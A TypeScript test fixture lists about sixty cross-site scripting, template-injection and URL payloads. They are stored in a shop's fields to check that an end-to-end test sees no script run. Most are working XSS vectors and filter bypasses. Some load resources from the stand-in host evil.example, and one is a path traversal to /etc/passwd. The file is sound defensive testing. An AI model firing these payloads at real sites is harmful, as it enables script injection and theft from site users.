/**
 * Hostile texts a back office, a customer or an attacker could store in any field the shop
 * shows back (issue 13). Each one, if it ever ran, would set `window.__xss`, call alert, or
 * load or navigate to evil.example: the e2e walk (tests/e2e/xss.spec.ts) watches for all of
 * those. Texts are shown as text; only web pictures of the shop's own host become images.
 */

const HIT = 'window.__xss=1';
const EVIL = 'https://evil.example';

/** Markup and script in any text field: names, remarks, addresses, blend names. */
export const TEXT_PAYLOADS: readonly string[] = [
  `<script>${HIT}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<img src=x onerror="${HIT}">`,
  `<img src="${EVIL}/pixel.png">`,
  `<svg onload="${HIT}">`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin="${HIT}" attributeName=x dur=1s>`,
  `<iframe src="javascript:${HIT}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${HIT}"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<a href="javascript:${HIT}">klik</a>`,
  `<form action="javascript:${HIT}"><button>kirim</button></form>`,
  `<details open ontoggle="${HIT}">`,
  `<body onload="${HIT}">`,
  `<input autofocus onfocus="${HIT}">`,
  `<video><source onerror="${HIT}"></video>`,
  `<audio src=x onerror="${HIT}">`,
  `<marquee onstart="${HIT}">`,
  `<style>@import '${EVIL}/x.css';</style>`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  `<div style="background:url(javascript:${HIT})">`,
  `<div style="width:expression(${HIT})">`,
  `"><script>${HIT}</script>`,
  `'><img src=x onerror=${HIT}>`,
  `</textarea><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `<<script>script>${HIT}<</script>/script>`,
  `<IMG SRC=JaVaScRiPt:${HIT}>`,
  `<img src=x oNeRrOr=${HIT}>`,
  `<img/src=x/onerror=${HIT}>`,
  `<img src="x" onerror="&#119;&#105;&#110;dow.__xss=1">`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `%3Cscript%3E${HIT}%3C%2Fscript%3E`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${HIT}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${HIT} src>">`,
  `<template><script>${HIT}</script></template>`,
  `{{constructor.constructor('${HIT}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, on purpose
  '${alert(1)}',
  `javascript:${HIT}`,
  `<a href="&#106;avascript:${HIT}">x</a>`,
  `<a href="java\tscript:${HIT}">x</a>`,
  `<img src="data:image/svg+xml,<svg onload=${HIT}>">`,
  `<x onmouseover="${HIT}" style="display:block;position:fixed;inset:0">`,
];

/** Addresses in fields that become links or pictures: image URLs, map links. */
export const URL_PAYLOADS: readonly string[] = [
  `javascript:${HIT}`,
  `JaVaScRiPt:${HIT}`,
  ` javascript:${HIT}`,
  `java\nscript:${HIT}`,
  `data:text/html,<script>${HIT}</script>`,
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
  `vbscript:msgbox(1)`,
  `${EVIL}/pixel.png`,
  '//evil.example/pixel.png',
  '\\\\evil.example\\pixel.png',
  '../../../etc/passwd',
  `https://127.0.0.1@evil.example/pixel.png`,
];

export const XSS_PAYLOADS: readonly string[] = [...TEXT_PAYLOADS, ...URL_PAYLOADS];
